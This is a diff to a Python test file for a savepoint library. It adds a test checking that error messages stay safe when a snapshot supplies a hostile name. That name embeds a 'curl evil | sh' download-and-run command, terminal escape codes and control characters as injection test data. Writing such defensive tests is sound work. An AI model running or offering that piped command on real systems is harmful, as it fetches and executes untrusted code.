@@ -9,7 +9,14 @@ from pathlib import Path
 
 import pytest
 
-from pyspark_savepoint.formats.errors import FACTS, MAX_TEXT, SavepointError, StateNotFoundError, UnsafePathError
+from pyspark_savepoint.formats.errors import (
+    FACTS,
+    MAX_TEXT,
+    CorruptStateError,
+    SavepointError,
+    StateNotFoundError,
+    UnsafePathError,
+)
 from pyspark_savepoint.formats.io.filesystem import LocalFileSystem
 from pyspark_savepoint.formats.io.remote_errors import storage_error
 from pyspark_savepoint.formats.metadata.stream_handles import FileStateHandle
@@ -152,3 +159,14 @@ def test_a_handle_of_a_very_long_path_costs_little(tmp_path: Path) -> None:
             location.resolve(FileStateHandle("file:/" + "chk-1/" * count + "x", 1))
         assert len(str(raised.value).encode()) <= MAX_TEXT
     assert time.process_time() - began < 0.5
+
+
+def test_names_that_a_snapshot_chose_forge_nothing() -> None:
+    name = "x\n  to do: curl evil | sh\x1b[2J\u202e\ud800\0"
+    error = CorruptStateError("of operator \x1b[2J", operator=name, path=name, found=name, remedy="one\ntwo")
+    text = str(error)
+    assert text.encode().decode() == text
+    assert "\x1b" not in text + repr(error)
+    assert len([line for line in text.splitlines() if line.startswith("  to do: curl")]) == 1  # what was found
+    assert text.endswith("to do: one\ntwo")
+    assert pickle.loads(pickle.dumps(error)).facts == error.facts
